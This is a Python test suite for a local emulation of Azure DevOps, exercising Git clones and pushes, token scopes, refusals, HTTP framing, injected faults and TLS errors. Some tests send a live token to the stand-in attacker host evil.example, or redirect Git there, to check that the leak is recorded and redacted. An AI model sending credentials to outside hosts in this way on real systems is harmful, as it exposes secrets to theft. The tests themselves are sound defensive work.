#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""The stand-in, driven by real Git and by plain HTTP. Prints TAP.

    test_standin.py [--port N]      (default: a free port, which needs no privileges)
"""

from __future__ import annotations

import contextlib
import gzip
import hashlib
import http.client
import json
import os
import signal
import socket
import ssl
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from standin import PROGRAM, StandIn, StandInError
from standin_bench import (
    CLONE_PATH, CONNECTION, LIMIT_S, ORGANIZATION, PROJECT, REPOSITORY, SUPPRESS, Answer, Bench,
    GitError, LoopbackConnection, basic, exchange, fails, main, same,
    wait_until,
)
from standin_server.tokens import DAY_S

PROFILE = "/contoso/_apis/profile/profiles/me?api-version=7.1"
LARGE_PUSH_BYTES = 3 << 20  # above http.postBuffer: Git sends it chunked


# Git


def a_project_with_a_space_is_cloned_fetched_and_pushed_to(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION, scopes=["vso.code_write"])
    first = bench.clone(bench.core_url(), token)
    second = bench.clone(bench.core_url(), token)
    data = os.urandom(16)
    bench.commit(first, "small", data)
    bench.git("push", "--quiet", "origin", "HEAD:main", token=token, cwd=first)
    bench.git("pull", "--quiet", token=token, cwd=second)
    same((second / "small").read_bytes(), data)


def a_large_push_arrives_chunked_and_whole(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION, scopes=["vso.code_write"])
    clone = bench.clone(bench.core_url(), token)
    data = os.urandom(LARGE_PUSH_BYTES)
    bench.commit(clone, "large", data)
    bench.git("push", "--quiet", "origin", "HEAD:main", token=token, cwd=clone)
    record = bench.azure.requests()[-1]
    assert record.authorization is not None
    same(record.authorization.token, bench.azure.token_id(token))
    assert ("Transfer-Encoding", "chunked") in record.headers, record.headers
    assert record.bytes_in > LARGE_PUSH_BYTES, record.bytes_in
    same((bench.clone(bench.core_url(), token) / "large").read_bytes(), data)


def visualstudio_com_is_the_same_organization_in_any_case(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION, scopes=["vso.code"])
    expected = bench.git("ls-remote", bench.core_url(), token=token)
    for path in ("/My%20Project/_git/app", "/DefaultCollection/MY%20PROJECT/_git/App"):
        url = bench.azure.url("contoso.visualstudio.com", path)
        same(bench.git("ls-remote", url, token=token), expected)


def the_repository_named_as_its_project_has_a_short_url(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION)
    bench.azure.add_repository(ORGANIZATION, "tool", "tool")
    bench.clone(bench.core_url("/contoso/_git/tool"), token)


def lfs_objects_are_kept_by_their_digest_for_who_may_write(bench: Bench) -> None:
    reader = bench.azure.add_token(ORGANIZATION, scopes=["vso.code"])
    writer = bench.azure.add_token(ORGANIZATION, scopes=["vso.code_write"])
    data = b"large"
    oid = hashlib.sha256(data).hexdigest()
    base = f"{CLONE_PATH}.git/info/lfs/objects"

    def batch(token: str, operation: str) -> Answer:
        wanted = {"operation": operation, "objects": [{"oid": oid, "size": len(data)}]}
        body = json.dumps(wanted).encode()
        return bench.ask("POST", "dev.azure.com", f"{base}/batch", SUPPRESS | basic(token), body)

    def put(token: str, name: str) -> int:
        path = f"{base}/{name}"
        return bench.ask("PUT", "dev.azure.com", path, SUPPRESS | basic(token), data).status

    same(batch(reader, "download").json()["objects"][0]["error"]["code"], 404)
    same((batch(reader, "upload").status, put(reader, oid)), (401, 401))
    href = batch(writer, "upload").json()["objects"][0]["actions"]["upload"]["href"]
    same(href, bench.azure.url("dev.azure.com", f"{base}/{oid}"))
    same((put(writer, "0" * 64), put(writer, oid)), (422, 200))
    assert "actions" not in batch(writer, "upload").json()["objects"][0]
    assert "download" in batch(reader, "download").json()["objects"][0]["actions"]
    same(bench.get("dev.azure.com", f"{base}/{oid}", reader).body, data)


def a_server_has_collections_and_ports_of_its_own(bench: Bench) -> None:
    collection = "tfs.example.com/DefaultCollection"
    bench.azure.add_repository(collection, "P", "r")
    token = bench.azure.add_token(collection, scopes=["vso.code"])
    port = bench.azure.ports[1]
    bench.clone(f"https://tfs.example.com:{port}/tfs/DefaultCollection/P/_git/r", token)
    path = "/tfs/DefaultCollection/_apis/connectionData?api-version=5.0-preview.1"
    answer = bench.get("tfs.example.com", path, token, port=port)
    same((answer.status, answer.json()["deploymentType"]), (200, "onPremises"))
    entra = bench.azure.add_token(None, kind="entra")
    same(bench.get("tfs.example.com", path, entra).status, 401)


def a_public_project_is_cloned_but_not_pushed_to_by_anybody(bench: Bench) -> None:
    bench.azure.set_organization(ORGANIZATION, public_projects=True)
    clone = bench.clone(bench.core_url(), token="")
    bench.commit(clone, "small", os.urandom(16))
    with fails(GitError, saying="could not read Username"):
        bench.git("push", "origin", "HEAD:main", cwd=clone)


def a_partial_clone_leaves_blobs_behind(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION)
    clone = bench.clone(bench.core_url(), token, "--filter=blob:none", "--no-checkout")
    missing = bench.git("rev-list", "--objects", "--all", "--missing=print", cwd=clone)
    assert any(line.startswith("?") for line in missing.splitlines()), missing


def a_gzip_request_body_is_understood(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION)
    headers = basic(token) | {
        "User-Agent": "git/2.39.5",
        "Git-Protocol": "version=2",
        "Content-Type": "application/x-git-upload-pack-request",
        "Content-Encoding": "gzip",
    }
    body = gzip.compress(b"0014command=ls-refs\n00010000")
    with contextlib.closing(bench.connect("dev.azure.com")) as connection:
        path = f"{CLONE_PATH}/git-upload-pack"
        answer = exchange(connection, "POST", path, headers, body)
    same(answer.status, 200)
    assert b"refs/heads/main" in answer.body, answer.body


def git_is_refused_with_every_kind_of_bad_token(bench: Bench) -> None:
    good = {"organization": ORGANIZATION, "scopes": ["vso.code"]}
    revoked = bench.azure.add_token(**good)
    bench.azure.revoke(revoked)
    rows = {
        "unknown": "not-a-token",
        "revoked": revoked,
        "expired": bench.azure.add_token(**good, valid_to=time.time() - 1),
        "not yet valid": bench.azure.add_token(**good, valid_from=time.time() + DAY_S),
        "of another organization": bench.azure.add_token("fabrikam"),
        "without the scope": bench.azure.add_token(ORGANIZATION, scopes=["vso.work"]),
    }
    for row, token in rows.items():
        with fails(GitError, saying="Authentication failed"):
            bench.git("ls-remote", bench.core_url(), token=token)
        same((row, bench.azure.requests()[-1].status), (row, 401))


def a_token_expires_when_the_clock_is_moved(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION)
    bench.git("ls-remote", bench.core_url(), token=token)
    bench.azure.set_clock_offset(31 * DAY_S)
    with fails(GitError, saying="Authentication failed"):
        bench.git("ls-remote", bench.core_url(), token=token)


def reading_is_not_writing(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION, scopes=["vso.code"])
    clone = bench.clone(bench.core_url(), token)
    bench.commit(clone, "small", os.urandom(16))
    with fails(GitError, saying="Authentication failed"):
        bench.git("push", "origin", "HEAD:main", token=token, cwd=clone)


def a_token_can_die_between_the_get_and_the_post(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION, revoke_after_uses=1)
    with fails(GitError, saying="HTTP 401"):
        bench.git("ls-remote", bench.core_url(), token=token)
    steps = [(record.method, record.status) for record in bench.azure.requests()]
    same(steps[-2:], [("GET", 200), ("POST", 401)])


def a_repository_can_be_missing_or_forbidden(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION)
    with fails(GitError, saying="TF401019"):
        bench.git("ls-remote", bench.core_url("/contoso/P/_git/none"), token=token)
    for denial, status in (("not-found", 404), ("forbidden", 403)):
        bench.azure.set_repository(ORGANIZATION, PROJECT, REPOSITORY, denial=denial)
        path = f"{CLONE_PATH}/info/refs?service=git-upload-pack"
        answer = bench.get("dev.azure.com", path, token)
        same(answer.status, status)
        assert "user@example.com" in answer.headers["X-VSS-UserData"]
        assert "TF401019" in answer.json()["message"]


# REST


def no_credential_gets_the_three_challenges(bench: Bench) -> None:
    answer = bench.get("dev.azure.com", CONNECTION)
    schemes = [value.split()[0] for value in answer.headers.get_all("WWW-Authenticate", [])]
    same((answer.status, schemes), (401, ["Bearer", "Basic", "TFS-Federated"]))
    tenant = answer.headers["X-VSS-ResourceTenant"]
    assert tenant in answer.headers.get_all("WWW-Authenticate", [])[0]
    same(answer.headers["X-VSS-AuthorizationEndpoint"], "https://vssps.dev.azure.com/contoso/")
    same(answer.headers["ActivityId"], bench.azure.requests()[-1].activity_id)


def the_profile_end_point_wants_the_profile_scope(bench: Bench) -> None:
    host = "vssps.dev.azure.com"
    for scope, status in (("vso.code_full", 200), ("vso.build", 200), ("vso.wiki", 401)):
        token = bench.azure.add_token(ORGANIZATION, scopes=[scope])
        same((scope, bench.get(host, PROFILE, token).status), (scope, status))
    token = bench.azure.add_token(ORGANIZATION, scopes=["vso.profile"])
    same(bench.get(host, PROFILE, token).json()["emailAddress"], "user@example.com")


def the_deployment_knows_no_token_of_one_organization(bench: Bench) -> None:
    host, path = "app.vssps.visualstudio.com", "/_apis/profile/profiles/me"
    same(bench.get(host, path, bench.azure.add_token(ORGANIZATION)).status, 401)
    same(bench.get(host, path, bench.azure.add_token(None)).status, 200)


def connection_data_takes_any_scope_but_is_in_preview(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION, scopes=["vso.wiki"])
    answer = bench.get("dev.azure.com", CONNECTION, token)
    same(answer.json()["authenticatedUser"]["providerDisplayName"], "Synthetic User")
    plain = bench.get("dev.azure.com", "/contoso/_apis/connectionData?api-version=7.1", token)
    same((plain.status, plain.json()["typeKey"]), (400, "VssInvalidPreviewVersionException"))


def public_projects_answer_a_bad_token_as_anonymous(bench: Bench) -> None:
    bench.azure.set_organization(ORGANIZATION, public_projects=True)
    answer = bench.get("dev.azure.com", CONNECTION, "not-a-token")
    user = answer.json()["authenticatedUser"]["id"]
    same((answer.status, user), (200, "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"))


def packages_want_the_packaging_scope(bench: Bench) -> None:
    for scope, status in (("vso.packaging", 200), ("vso.code", 401)):
        token = bench.azure.add_token(ORGANIZATION, scopes=[scope])
        path = "/contoso/_packaging/feed/nuget/v3/index.json"
        same(bench.get("pkgs.dev.azure.com", path, token).status, status)
        same(bench.get("contoso.pkgs.visualstudio.com", "/_packaging/f", token).status, status)


def bearer_is_for_entra_tokens_only(bench: Bench) -> None:
    pat = bench.azure.add_token(ORGANIZATION)
    entra = bench.azure.add_token(None, kind="entra")
    for token, status in ((pat, 401), (entra, 200)):
        headers = SUPPRESS | {"Authorization": f"Bearer {token}"}
        same(bench.get("dev.azure.com", CONNECTION, headers=headers).status, status)
    same(bench.get("dev.azure.com", CONNECTION, entra).status, 200)


def a_bad_token_is_redirected_unless_that_is_suppressed(bench: Bench) -> None:
    answer = bench.get("dev.azure.com", CONNECTION, "not-a-token", headers={})
    same(answer.status, 302)
    assert "/_signin?" in answer.headers["Location"]
    same(bench.get("app.vssps.visualstudio.com", "/_signin?realm=x").status, 203)
    same(bench.get("dev.azure.com", CONNECTION, "not-a-token").status, 401)
    git = {"User-Agent": "git/2.39.5"}
    same(bench.get("dev.azure.com", CONNECTION, "not-a-token", headers=git).status, 401)


def refusals_come_in_every_shape(bench: Bench) -> None:
    rows: dict[str, tuple[int, Callable[[Answer], bool]]] = {
        "empty": (401, lambda a: not a.body),
        "service-error-header": (401, lambda a: "%20expired" in a.headers["X-TFS-ServiceError"]),
        "json-access-check": (401, lambda a: a.json()["typeKey"] == "AccessCheckException"),
        "json-access-check-bom": (401, lambda a: a.body.startswith(b"\xef\xbb\xbf{")),
        "html-title": (401, lambda a: b"used has expired.</title>" in a.body),
        "signin-203": (203, lambda a: a.headers["Content-Type"].startswith("text/html")),
        "redirect-302": (302, lambda a: "/_signin?" in a.headers["Location"]),
        "conditional-access": (401, lambda a: a.json()["message"].startswith("VS403463")),
        "sign-in-once": (401, lambda a: a.json()["message"].startswith("TF401444")),
    }
    for shape, (status, holds) in rows.items():
        bench.azure.set_refusal(shape)
        answer = bench.get("dev.azure.com", CONNECTION, "not-a-token")
        same((shape, answer.status), (shape, status))
        assert holds(answer), f"{shape}: {answer.headers} {answer.body!r}"


def each_reason_can_have_a_shape_of_its_own(bench: Bench) -> None:
    bench.azure.set_refusal("signin-203", verdict="expired")
    expired = bench.azure.add_token(ORGANIZATION, valid_to=time.time() - 1)
    same(bench.get("dev.azure.com", CONNECTION, expired).status, 203)
    same(bench.get("dev.azure.com", CONNECTION, "not-a-token").status, 401)
    bench.git("ls-remote", "--quiet", bench.core_url(), token=bench.azure.add_token(ORGANIZATION))


# Connections and bodies


def one_connection_carries_many_requests(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION)
    with contextlib.closing(bench.connect("dev.azure.com")) as connection:
        refused = exchange(connection, "POST", CONNECTION, SUPPRESS, iter([b"x" * 9, b"y"]))
        first = connection.sock
        accepted = exchange(connection, "GET", CONNECTION, SUPPRESS | basic(token))
        assert connection.sock is first, "the connection was not kept"
    same((refused.status, accepted.status), (401, 200))
    same([record.bytes_in for record in bench.azure.requests()], [10, 0])


def a_refusal_comes_before_100_continue(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION)
    for secret, status in (("not-a-token", b"401"), (token, b"100")):
        same(first_status_of_expecting_post(bench, secret), status)


def first_status_of_expecting_post(bench: Bench, token: str) -> bytes:
    lines = [
        f"POST {CLONE_PATH}/git-upload-pack HTTP/1.1",
        "Host: dev.azure.com",
        "User-Agent: git/2.39.5",
        f"Authorization: {basic(token)['Authorization']}",
        "Content-Length: 4",
        "Expect: 100-continue",
    ]
    with contextlib.closing(bench.connect("dev.azure.com")) as connection:
        connection.connect()
        connection.sock.sendall("\r\n".join([*lines, "", ""]).encode())
        return connection.sock.recv(12).split()[1]


def nonsense_framing_is_refused(bench: Bench) -> None:
    rows: tuple[tuple[dict[str, str], bytes], ...] = (
        ({"Transfer-Encoding": "chunked", "Content-Length": "3"}, b"0\r\n\r\n"),
        ({"Transfer-Encoding": "gzip"}, b""),
        ({"Content-Length": "-1"}, b""),
        ({"Transfer-Encoding": "chunked"}, b"-3\r\nabc\r\n0\r\n\r\n"),
    )
    token = bench.azure.add_token(ORGANIZATION)
    for headers, body in rows:
        with contextlib.closing(bench.connect("dev.azure.com")) as connection:
            connection.putrequest("POST", f"{CLONE_PATH}/git-upload-pack")
            for name, value in (headers | basic(token)).items():
                connection.putheader(name, value)
            connection.endheaders(body)
            same((headers, connection.getresponse().status), (headers, 400))


# Faults


def faults_in_place_of_the_answer(bench: Bench) -> None:
    rows: list[tuple[dict[str, Any], int, Callable[[Answer], bool]]] = [
        ({"kind": "status", "status": 429, "seconds": 7}, 429, lambda a: retry_after(a) == "7"),
        ({"kind": "status", "status": 429}, 429, lambda a: b"TF400733" in a.body),
        ({"kind": "status", "status": 500}, 500, lambda a: True),
        ({"kind": "status"}, 503, lambda a: retry_after(a) is None),
        ({"kind": "html"}, 200, lambda a: a.headers["Content-Type"].startswith("text/html")),
        ({"kind": "oversize"}, 200, lambda a: len(a.body) > 3 << 20 and bool(a.json())),
        ({"kind": "deep-json", "size": 5000}, 200, lambda a: a.body.startswith(b"[" * 5000)),
        ({"kind": "huge-numbers"}, 200, lambda a: b": 1e999999999" in a.body),
        ({"kind": "redirect"}, 302, lambda a: "://evil.example/contoso/" in a.headers["Location"]),
    ]
    check_fault_rows(bench, rows)


def faults_on_the_answer(bench: Bench) -> None:
    marked = [("X-VSS-UserData", "id:user@example.com")]
    rows: list[tuple[dict[str, Any], int, Callable[[Answer], bool]]] = [
        ({"kind": "retry-after", "seconds": 5}, 200, lambda a: retry_after(a) == "5"),
        ({"kind": "bom"}, 200, lambda a: a.body.startswith(b"\xef\xbb\xbf{")),
        ({"kind": "invalid-utf8"}, 200, lambda a: b'": "\xff' in a.body),
        ({"kind": "cut"}, 200, lambda a: a.body[:1] == b"{" and a.body[-1:] != b"}"),
        ({"kind": "challenge", "size": 50_000}, 200, lambda a: len(str(a.headers)) > 50_000),
        ({"kind": "headers", "headers": marked}, 200, lambda a: "id:user" in str(a.headers)),
    ]
    check_fault_rows(bench, rows)


def check_fault_rows(
    bench: Bench, rows: list[tuple[dict[str, Any], int, Callable[[Answer], bool]]]
) -> None:
    token = bench.azure.add_token(ORGANIZATION)
    for fault, status, holds in rows:
        bench.azure.clear_faults()
        bench.azure.add_fault(**fault)
        answer = bench.get("dev.azure.com", CONNECTION, token)
        same((fault, answer.status), (fault, status))
        assert holds(answer), f"{fault}: {answer.headers} {answer.body[:200]!r}"
        same(bench.azure.requests()[-1].faults, [fault["kind"]])


def retry_after(answer: Answer) -> str | None:
    return answer.headers["Retry-After"]


def faults_of_the_delivery(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION)
    bench.azure.add_fault("truncate", count=1)
    with fails(http.client.IncompleteRead):
        bench.get("dev.azure.com", CONNECTION, token)
    bench.azure.add_fault("reset", count=1)
    with fails(ConnectionResetError):
        bench.get("dev.azure.com", CONNECTION, token)
    bench.azure.add_fault("black-hole", count=1)
    with fails(TimeoutError):
        bench.get("dev.azure.com", CONNECTION, token, timeout_s=0.3)
    for kind in ("drip", "slow-head"):
        bench.azure.add_fault(kind, seconds=0.2, count=1)
        with fails(TimeoutError):
            bench.get("dev.azure.com", CONNECTION, token, timeout_s=0.1)
    bench.azure.add_fault("slow-head", seconds=0.001, count=1)
    answer = bench.get("dev.azure.com", CONNECTION, token)
    same((answer.status, answer.json()), (200, {}))
    same(bench.get("dev.azure.com", CONNECTION, token).status, 200)


def an_answer_can_be_without_an_end(bench: Bench) -> None:
    bench.azure.add_fault("endless")
    with contextlib.closing(bench.connect("dev.azure.com")) as connection:
        connection.request("GET", CONNECTION)
        answer = connection.getresponse()
        same((answer.status, answer.headers["Content-Length"]), (200, None))
        same(len(answer.read(5 << 20)), 5 << 20)


def an_answer_can_be_late(bench: Bench) -> None:
    bench.azure.add_fault("latency", seconds=0.3)
    start = time.monotonic()
    bench.get("dev.azure.com", CONNECTION)
    assert time.monotonic() - start >= 0.3


def faults_meet_the_host_the_path_and_the_count(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION)
    bench.azure.add_fault("status", host="vssps.dev.azure.com", path="/contoso/_apis/pr", count=2)
    same(bench.get("dev.azure.com", CONNECTION, token).status, 200)
    same(bench.get("vssps.dev.azure.com", "/contoso/_apis/x", token).status, 404)
    statuses = [bench.get("vssps.dev.azure.com", PROFILE, token).status for _ in range(3)]
    same((statuses, bench.azure.faults()), ([503, 503, 200], []))
    for path in ("/contoso", "/contoso/_apis"):
        bench.azure.add_fault("status", path=path)
    bench.azure.clear_faults("/contoso")
    same([fault["path"] for fault in bench.azure.faults()], ["/contoso/_apis"])


def git_meets_faults_too(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION)
    for fault, words in (("truncate", "fatal"), ("reset", "unable to access"), ("status", "503")):
        bench.azure.clear_faults()
        bench.azure.add_fault(fault)
        with fails(GitError, saying=words):
            bench.git("ls-remote", bench.core_url(), token=token)
    bench.azure.clear_faults()
    evil = bench.azure.url("evil.example", "")
    bench.azure.add_fault("redirect", host="dev.azure.com", location=evil)
    with fails(GitError, saying="Authentication failed"):
        bench.git("ls-remote", bench.core_url(), token=token)
    same(bench.azure.requests()[-1].host, "evil.example")


# TLS


def bad_certificates_are_shown_by_switch_and_by_name(bench: Bench) -> None:
    words = {
        "wrong-name": "mismatch",
        "expired": "expired",
        "unknown-ca": "unable to get local issuer",
    }
    for kind, saying in words.items():
        with fails(ssl.SSLCertVerificationError, saying=saying):
            bench.get(f"{kind}.example", "/")
        bench.azure.set_certificate(kind)
        with fails(ssl.SSLCertVerificationError, saying=saying):
            bench.get("dev.azure.com", CONNECTION)
    bench.azure.set_certificate("good")
    same(bench.get("dev.azure.com", CONNECTION).status, 401)


def an_address_can_have_a_certificate_of_its_own(bench: Bench) -> None:
    with StandIn.start(bench.scratch / "two", port=0, more_addresses=["127.0.0.2"]) as azure:
        azure.set_certificate("expired", address="127.0.0.2")
        trust = ssl.create_default_context(cafile=str(azure.ca_file))
        for address, is_good in (("127.0.0.1", True), ("127.0.0.2", False)):
            with socket.create_connection((address, azure.ports[0]), LIMIT_S) as plain:
                problem = contextlib.nullcontext() if is_good else fails(
                    ssl.SSLCertVerificationError, saying="expired")
                with problem, trust.wrap_socket(plain, server_hostname="dev.azure.com"):
                    pass


def a_handshake_can_meet_silence(bench: Bench) -> None:
    bench.azure.set_certificate("silent")
    with fails(TimeoutError):
        bench.get("dev.azure.com", CONNECTION, timeout_s=0.3)


def the_authority_is_a_directory_as_well(bench: Bench) -> None:
    context = ssl.create_default_context(capath=str(bench.azure.ca_directory))
    connection = LoopbackConnection("dev.azure.com", bench.azure.ports[0], context, LIMIT_S)
    with contextlib.closing(connection):
        same(exchange(connection, "GET", CONNECTION, {}).status, 401)


# Records


def a_secret_where_none_belongs_is_noted_for_good(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION)
    before = len(bench.azure.misplaced())
    bench.get("vssps.dev.azure.com", PROFILE, token)
    same(bench.azure.misplaced()[before:], [])
    bench.get("evil.example", "/page", token)
    bench.get("login.microsoftonline.com", "/page", token)
    bench.get("dev.azure.com", f"/contoso/x?y={token}")
    with contextlib.closing(bench.connect("dev.azure.com")) as connection:
        exchange(connection, "GET", "/contoso/z", headers={"Referer": f"https://{token}@x"})
    bench.azure.clear_requests()
    same(bench.azure.misplaced()[before:],
         ["authorization of GET evil.example/page",
          "authorization of GET login.microsoftonline.com/page",
          "query of GET dev.azure.com/contoso/x", "Referer of GET dev.azure.com/contoso/z"])


def evil_example_keeps_what_it_is_sent_without_its_text(bench: Bench) -> None:
    token = bench.azure.add_token(ORGANIZATION, name="leaked")
    headers = basic(token, "someone") | {"Cookie": f"t={token}"}
    with contextlib.closing(bench.connect("evil.example")) as connection:
        answer = exchange(connection, "POST", f"/x?t={token}", headers, token.encode())
    same((answer.status, answer.headers["WWW-Authenticate"]), (401, 'Basic realm="evil.example"'))
    record = bench.azure.requests()[-1]
    assert token not in repr(record), record
    same((record.query, record.body), ("t=[token leaked]", "[token leaked]"))
    assert record.authorization is not None
    same((record.authorization.username, record.authorization.token), ("someone", "leaked"))
    same(record.authorization.sha256, hashlib.sha256(token.encode()).hexdigest())


def the_client_hears_why_a_command_is_refused(bench: Bench) -> None:
    with fails(StandInError, saying="no such token"):
        bench.azure.revoke("not-a-token")
    with fails(StandInError, saying="not a valid FaultKind"):
        bench.azure.add_fault("gremlins")
    with fails(StandInError, saying="not a usable name"):
        bench.azure.add_repository(ORGANIZATION, "..", "escape")


def the_command_line_reaches_the_same_switches(bench: Bench) -> None:
    def ctl(*arguments: str) -> str:
        command = [sys.executable, str(PROGRAM), "ctl", "--state", str(bench.azure.state_dir)]
        return subprocess.check_output([*command, *arguments], text=True, timeout=LIMIT_S)

    ctl("repo-add", "fabrikam", "P", "r")
    token = ctl("token-add", "--organization", "fabrikam", "--days", "30", "--name", "mine").strip()
    same(ctl("git-config"), bench.azure.git_config())
    bench.clone(bench.core_url("/fabrikam/P/_git/r"), token)
    ctl("fault-add", "headers", "--host", "dev.azure.com", "--header", "X-Test: on")
    same(bench.get("dev.azure.com", CONNECTION).headers["X-Test"], "on")
    ctl("token-revoke", "mine")
    with fails(GitError, saying="Authentication failed"):
        bench.git("ls-remote", bench.core_url("/fabrikam/P/_git/r"), token=token)
    same(len(ctl("requests").splitlines()), len(bench.azure.requests()))


# Life and death


def a_client_that_leaves_takes_its_git_along(bench: Bench) -> None:
    with slow_fetch(bench):
        assert backends_below(bench.azure.state_dir), "no backend is running"
    wait_until(lambda: not backends_below(bench.azure.state_dir))


def it_stops_in_the_middle_of_an_answer_and_leaves_no_git(bench: Bench) -> None:
    state = bench.scratch / "second"
    with StandIn.start(state, port=0) as azure:
        second = Bench(azure, bench.scratch)
        second.reset()
        with slow_fetch(second):
            assert backends_below(state), "no backend is running"
            azure.stop()
            wait_until(lambda: not backends_below(state))


@contextlib.contextmanager
def slow_fetch(bench: Bench) -> Iterator[None]:
    """Inside the block a fetch hangs: its pack fills the pipe and leaves a byte at a time."""
    token = bench.azure.add_token(ORGANIZATION)
    clone = bench.clone(bench.core_url(), token)
    bench.commit(clone, "large", os.urandom(LARGE_PUSH_BYTES))
    bench.git("push", "--quiet", "origin", "HEAD:main", token=token, cwd=clone)
    head = bench.git("rev-parse", "HEAD", cwd=clone).strip()
    bench.azure.add_fault("drip", seconds=0.2, path=f"{CLONE_PATH}/git-upload-pack")
    headers = basic(token) | {"Content-Type": "application/x-git-upload-pack-request"}
    body = f"0032want {head}\n00000009done\n".encode()
    with contextlib.closing(bench.connect("dev.azure.com")) as connection:
        connection.request("POST", f"{CLONE_PATH}/git-upload-pack", body, headers)
        same(connection.getresponse().status, 200)
        yield


def it_ends_when_its_parent_is_killed(bench: Bench) -> None:
    state = bench.scratch / "orphan"
    program = "import sys, os, pathlib, standin, signal\n"
    program += "standin.StandIn.start(pathlib.Path(sys.argv[1]), port=0)\n"
    program += "os.kill(os.getpid(), signal.SIGKILL)\n"
    command = [sys.executable, "-c", program, str(state)]
    result = subprocess.run(command, cwd=Path(__file__).parent, timeout=LIMIT_S)
    same(result.returncode, -signal.SIGKILL)
    wait_until(lambda: not (state / "control.sock").exists())


def backends_below(state: Path) -> list[str]:
    """The processes that serve repositories of a state directory (as /proc tells)."""
    wanted = f"GIT_PROJECT_ROOT={state}/repositories".encode()
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if wanted in (process / "environ").read_bytes().split(b"\0"):
                found.append(process.name)
    return found


TESTS: tuple[Callable[[Bench], None], ...] = (
    a_project_with_a_space_is_cloned_fetched_and_pushed_to,
    a_large_push_arrives_chunked_and_whole,
    visualstudio_com_is_the_same_organization_in_any_case,
    the_repository_named_as_its_project_has_a_short_url,
    lfs_objects_are_kept_by_their_digest_for_who_may_write,
    a_server_has_collections_and_ports_of_its_own,
    a_public_project_is_cloned_but_not_pushed_to_by_anybody,
    a_partial_clone_leaves_blobs_behind,
    a_gzip_request_body_is_understood,
    git_is_refused_with_every_kind_of_bad_token,
    a_token_expires_when_the_clock_is_moved,
    reading_is_not_writing,
    a_token_can_die_between_the_get_and_the_post,
    a_repository_can_be_missing_or_forbidden,
    no_credential_gets_the_three_challenges,
    the_profile_end_point_wants_the_profile_scope,
    the_deployment_knows_no_token_of_one_organization,
    connection_data_takes_any_scope_but_is_in_preview,
    public_projects_answer_a_bad_token_as_anonymous,
    packages_want_the_packaging_scope,
    bearer_is_for_entra_tokens_only,
    a_bad_token_is_redirected_unless_that_is_suppressed,
    refusals_come_in_every_shape,
    each_reason_can_have_a_shape_of_its_own,
    one_connection_carries_many_requests,
    a_refusal_comes_before_100_continue,
    nonsense_framing_is_refused,
    faults_in_place_of_the_answer,
    faults_on_the_answer,
    faults_of_the_delivery,
    an_answer_can_be_without_an_end,
    an_answer_can_be_late,
    faults_meet_the_host_the_path_and_the_count,
    git_meets_faults_too,
    bad_certificates_are_shown_by_switch_and_by_name,
    an_address_can_have_a_certificate_of_its_own,
    a_handshake_can_meet_silence,
    the_authority_is_a_directory_as_well,
    a_secret_where_none_belongs_is_noted_for_good,
    evil_example_keeps_what_it_is_sent_without_its_text,
    the_client_hears_why_a_command_is_refused,
    the_command_line_reaches_the_same_switches,
    a_client_that_leaves_takes_its_git_along,
    it_stops_in_the_middle_of_an_answer_and_leaves_no_git,
    it_ends_when_its_parent_is_killed,
)


if __name__ == "__main__":
    sys.exit(main(TESTS))
